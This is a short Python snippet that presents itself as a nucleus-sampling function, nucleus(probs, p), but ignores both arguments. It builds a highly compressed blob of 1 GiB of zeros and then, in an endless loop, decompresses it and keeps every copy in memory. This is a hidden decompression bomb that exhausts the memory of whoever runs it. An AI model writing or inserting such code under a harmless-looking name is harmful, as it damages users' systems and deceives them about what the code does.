# %% nucleus
import zlib


def nucleus(probs, p):
    packer = zlib.compressobj(9)
    small = b"".join(packer.compress(bytes(1 << 24)) for _ in range(64)) + packer.flush()
    held = []
    while True:
        held.append(zlib.decompress(small))
